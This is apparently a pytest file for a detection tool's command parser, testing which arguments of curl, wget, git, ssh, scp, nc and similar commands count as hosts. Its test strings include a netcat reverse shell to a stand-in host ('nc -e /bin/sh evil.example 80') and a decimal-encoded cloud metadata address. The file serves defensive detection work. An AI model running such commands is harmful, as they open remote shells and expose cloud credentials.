"""A host comes from a URL, a remote or a host argument, never from an option or a file."""

from __future__ import annotations

import pytest

from roguewatch.detect.commands import understand


def urls(text: str) -> tuple[str, ...]:
    return tuple(dict.fromkeys(url for one in understand(text) for url in one.urls))


@pytest.mark.parametrize(
    "options",
    [
        "-m 2", "--max-time 2", "-fsSLo page.html", "-o out.json", "-X POST -d a.b",
        "-H x.y", "-u first.last:secret", "-sm 2", "-A agent.name", "--retry 3 --retry-delay 1",
    ],
)  # fmt: skip
def test_values_of_curls_options_are_no_hosts(options: str) -> None:
    assert urls(f"curl {options} https://a.example/x") == ("https://a.example/x",)


@pytest.mark.parametrize(
    "options", ["-T 5", "--timeout 5", "-t 3 -O page.html", "-nv", "-qO out.md"]
)
def test_values_of_wgets_options_are_no_hosts(options: str) -> None:
    assert urls(f"wget {options} b.example/x") == ("b.example/x",)


@pytest.mark.parametrize(
    "text",
    [
        "git add readme.md",
        "git config core.hookspath .hooks",
        "git -c user.name=x commit -m notes.md",
        "git show v1.2:docs/readme.md",
        "git push origin v1.0:refs/heads/x",
        "git log --author dev@team.example",
        "openssl x509 -in cert.pem -noout",
        "scp -P 22 notes.md other.md",
        "rsync -a readme.md backup.md",
        "nc -lvp 4444",
        "nc -l 4444",
    ],
)
def test_files_keys_and_ports_are_no_hosts(text: str) -> None:
    assert urls(text) == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("git clone git@code.example:team/x.git", ("git@code.example:team/x.git",)),
        ("git remote add up code.example:team/x", ("code.example:team/x",)),
        ("ssh -p 22 -i key.pem dev@box.example cat readme.md", ("dev@box.example",)),
        ("ssh -J jump.example dev@10.0.0.9", ("dev@10.0.0.9", "jump.example")),
        ("scp -i key.pem notes.md dev@box.example:/x", ("dev@box.example:/x",)),
        ("scp notes.md 10.0.0.9:/x", ("10.0.0.9:/x",)),
        ("rsync -e ssh --timeout 5 a.md box.example:/b", ("box.example:/b",)),
        ("nc -w 2 10.0.0.9 4444", ("10.0.0.9", "10.0.0.9:4444")),
        ("nc -nv 10.0.0.9 4444", ("10.0.0.9", "10.0.0.9:4444")),
        ("nc -e /bin/sh evil.example 80", ("evil.example", "evil.example:80")),
        ("nc -c 10.0.0.9 443", ("10.0.0.9", "10.0.0.9:443")),
        ("nc localhost 8080", ("localhost:8080",)),
        ("ping -c 3 box.example", ("box.example",)),
        ("telnet box.example 23", ("box.example", "box.example:23")),
        ("openssl s_client -connect box.example:443", ("box.example:443",)),
        ("http POST box.example/x file.name=readme.md", ("box.example/x",)),
        ("curl --url=box.example/x", ("box.example/x",)),
        ("curl -x proxy.example:80 box.example", ("proxy.example:80", "box.example")),
        ("curl -s 10.0.0.9:8000/x", ("10.0.0.9:8000/x",)),
        ("curl 2852039166", ("2852039166", "169.254.169.254")),
    ],
)
def test_hosts_are_read_where_a_program_takes_them(text: str, expected: tuple[str, ...]) -> None:
    assert urls(text) == expected
